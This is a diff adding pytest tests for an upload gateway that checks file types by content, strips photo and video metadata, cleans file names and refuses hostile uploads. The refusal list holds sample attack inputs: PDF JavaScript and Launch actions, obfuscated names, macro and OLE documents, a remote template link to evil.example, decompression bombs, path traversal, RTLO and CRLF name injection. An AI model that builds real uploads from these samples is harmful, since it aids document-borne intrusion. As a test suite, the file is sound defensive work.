@@ -1,0 +1,173 @@
+"""What is let in is what the content says it is, and hostile files are refused by name."""
+
+from __future__ import annotations
+
+from io import BytesIO
+from typing import Any
+
+import pytest
+from PIL import Image
+
+from gateway.inspection import TYPES, inspected, unfit
+from tests.gateway import uploaded
+
+MIB = 1024 * 1024
+LIMIT = 10 * MIB
+
+FIT = [
+    (uploaded.picture("JPEG"), "jpeg", "水管.jpg"),
+    (uploaded.picture("PNG"), "png", "水管.png"),
+    (uploaded.picture("PNG", mode="L"), "png", "水管.png"),
+    (uploaded.picture("GIF", mode="P"), "png", "水管.png"),
+    (uploaded.picture("WEBP"), "webp", "水管.webp"),
+    (uploaded.pdf(), "pdf", "水管.pdf"),
+    (uploaded.document(), "docx", "水管.docx"),
+    (uploaded.document(uploaded.SHEET), "xlsx", "水管.xlsx"),
+    (uploaded.ofd(), "ofd", "水管.ofd"),
+    ("三号楼停水".encode(), "txt", "水管.txt"),
+    ("三号楼停水".encode("gb18030"), "txt", "水管.txt"),
+    (uploaded.mp3(tag=b"made by me"), "mp3", "水管.mp3"),
+    (uploaded.mp4(), "mp4", "水管.mp4"),
+    (uploaded.amr(), "amr", "水管.amr"),
+]
+
+HOSTILE = [
+    (b"MZ\x90\x00 this program cannot be run in DOS mode", unfit.UnknownType),
+    (b"\x7fELF\x02\x01\x01\x00", unfit.UnknownType),
+    (b"<html><script>alert(1)</script></html>", unfit.UnknownType),
+    (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', unfit.UnknownType),
+    (b"", unfit.Damaged),
+    (b" \n ", unfit.Damaged),
+    (uploaded.archive({"a.txt": b"a"}), unfit.UnknownType),
+    (uploaded.enormous_png(), unfit.TooManyPixels),
+    (uploaded.enormous_png(40_000, 10), unfit.TooManyPixels),
+    (uploaded.picture()[:200], unfit.Damaged),
+    (b"\xff\xd8\xff\xe0 no picture", unfit.Damaged),
+    (b"%PDF-1.7 no end", unfit.Damaged),
+    (uploaded.pdf() + uploaded.archive({"a.exe": b"MZ"}), unfit.Disguised),
+    (uploaded.pdf() + uploaded.archive({"a.exe": b"MZ"}) + b"%%EOF", unfit.Disguised),
+    (uploaded.pdf() + b"<script>alert(1)</script>", unfit.Disguised),
+    (uploaded.pdf(b"<< /S /JavaScript /JS (app.alert) >>"), unfit.Active),
+    (uploaded.pdf(b"<< /S /J#61vaScript /JS (app.alert) >>"), unfit.Active),
+    (uploaded.pdf(b"<< /Type /EmbeddedFile >>"), unfit.Active),
+    (uploaded.pdf(b"<< /S /Launch /F (calc.exe) >>"), unfit.Active),
+    (uploaded.pdf(uploaded.packed_objects(b"4 0 << /S /JavaScript /JS (app.alert) >>")), unfit.Active),
+    (uploaded.pdf(uploaded.packed_objects(b"4 0 << /S /Java#53cript /JS (app.alert) >>")), unfit.Active),
+    (uploaded.pdf(b"<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nabc\nendstream"), unfit.Damaged),
+    (uploaded.pdf(uploaded.packed_objects(bytes(65 * MIB))), unfit.Bomb),
+    (uploaded.pdf(b"<< /Encrypt 5 0 R >>"), unfit.Locked),
+    (uploaded.document(uploaded.MACROS), unfit.Active),
+    (uploaded.document(word__vbaProject_bin=b"macro"), unfit.Active),
+    (uploaded.document(word__embeddings__oleObject1_bin=b"ole"), unfit.Active),
+    (uploaded.document(word__embeddings__inner_xlsx=b"PK"), unfit.Active),
+    (uploaded.document(word__run_exe=b"MZ"), unfit.Active),
+    (
+        uploaded.document(
+            word___rels__settings_xml_rels=b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
+            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+        ),
+        unfit.Active,
+    ),
+    (uploaded.document(word__bomb_xml=bytes(101 * MIB)), unfit.Bomb),
+    (uploaded.document(word__lol_xml=b'<!DOCTYPE lolz [<!ENTITY lol "lol">]>'), unfit.Disguised),
+    (uploaded.document() + b"#!/bin/sh", unfit.Disguised),
+    (b"PK\x03\x04 no archive", unfit.Damaged),
+    (uploaded.archive({"../../etc/passwd": b"x", "[Content_Types].xml": uploaded.WORD.encode()}), unfit.Disguised),
+    (uploaded.mp3(2), unfit.Damaged),
+    (uploaded.mp3() + b"<script>", unfit.Disguised),
+    (uploaded.amr()[:-1], unfit.Damaged),
+    (uploaded.mp4()[:-1], unfit.Damaged),
+    (uploaded.mp4() + uploaded.box(b"evil", b"MZ"), unfit.Disguised),
+    (b"\0\0\0\x18ftypevil\0\0\0\0", unfit.Damaged),
+]
+
+
+def let_in(data: bytes, name: str = "水管.bin", types: tuple[str, ...] = TYPES, limit: int = LIMIT) -> Any:
+    """The file as it is kept."""
+    return inspected(data, name, types, limit)
+
+
+@pytest.mark.parametrize(("data", "type_", "name"), FIT, ids=map(str, range(len(FIT))))
+def test_a_file_is_what_its_content_says_whatever_it_is_called(data: bytes, type_: str, name: str) -> None:
+    fit = let_in(data)
+    assert (fit.type, fit.name) == (type_, name)
+    assert let_in(fit.content).type == type_  # and it is fit once more
+
+
+def test_nothing_of_where_and_by_what_a_photograph_was_taken_is_left() -> None:
+    data = uploaded.photograph()
+    assert b"SpyPhone" in data
+    assert b"taken at home" in data
+    kept = let_in(data).content
+    for trace in (b"Exif", b"SpyPhone", b"GPS", b"2024:03:01", b"taken at home", b"ICC_PROFILE"):
+        assert trace not in kept
+    with Image.open(BytesIO(kept)) as image:
+        assert not image.getexif()
+        assert image.size == (20, 40)  # upright, though the note of the orientation is gone
+        red, _, blue = image.convert("RGB").getpixel((10, 5))  # type: ignore[misc]
+        assert red > blue
+
+
+def test_what_stands_behind_a_picture_is_gone() -> None:
+    hidden = uploaded.archive({"virus.exe": b"MZ this program cannot be run"})
+    for kind in ("JPEG", "PNG", "GIF", "WEBP"):
+        mode = "P" if kind == "GIF" else "RGB"
+        kept = let_in(uploaded.picture(kind, mode=mode) + hidden + b"<script>alert(1)</script>").content
+        assert b"virus" not in kept
+        assert b"script" not in kept
+
+
+def test_a_film_tells_no_place_and_a_recording_no_name() -> None:
+    film = uploaded.mp4()
+    assert b"+39.9075" in film
+    kept = let_in(film).content
+    assert b"+39.9075" not in kept
+    assert b"xyz" not in kept
+    assert len(kept) == len(film)
+    assert b"made by me" not in let_in(uploaded.mp3(tag=b"made by me")).content
+
+
+@pytest.mark.parametrize(("data", "refusal"), HOSTILE, ids=map(str, range(len(HOSTILE))))
+def test_a_hostile_or_broken_file_is_refused_by_name(data: bytes, refusal: type[Exception]) -> None:
+    with pytest.raises(refusal):
+        let_in(data)
+
+
+def test_a_link_to_a_website_is_no_reason_to_refuse_a_document() -> None:
+    link = (
+        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'hyperlink" Target="https://www.example.gov.cn" TargetMode="External"/></Relationships>'
+    )
+    assert let_in(uploaded.document(word___rels__document_xml_rels=link)).type == "docx"
+
+
+def test_only_the_types_that_the_office_takes_are_let_in() -> None:
+    assert let_in(uploaded.picture(), types=("jpeg",)).type == "jpeg"
+    for data in (uploaded.pdf(), uploaded.document(), uploaded.mp3(), "文本".encode(), uploaded.picture("PNG")):
+        with pytest.raises(unfit.UnknownType):
+            let_in(data, types=("jpeg",))
+
+
+def test_a_file_is_no_larger_than_the_limit() -> None:
+    assert let_in(b"a" * MIB, limit=MIB).type == "txt"
+    with pytest.raises(unfit.TooLarge):
+        let_in(b"a" * (MIB + 1), limit=MIB)
+
+
+@pytest.mark.parametrize(
+    ("name", "kept"),
+    [
+        ("photo.exe", "photo.png"),
+        ("../../etc/passwd", "passwd.png"),
+        ("C:\\Users\\王\\桌面\\水管 漏水.jpeg", "水管 漏水.png"),
+        ("evil\u202egnp.exe", "evilgnp.png"),
+        ("a\r\nSet-Cookie: x.png", "aSet-Cookie x.png"),
+        ("", "attachment.png"),
+        ("...", "attachment.png"),
+        ("con.txt", "_con.png"),
+        ("长" * 300 + ".png", "长" * 80 + ".png"),
+        ('a"b<c>.png', "a b c.png"),
+    ],
+)
+def test_a_name_is_cleaned(name: str, kept: str) -> None:
+    assert let_in(uploaded.picture("PNG"), name).name == kept
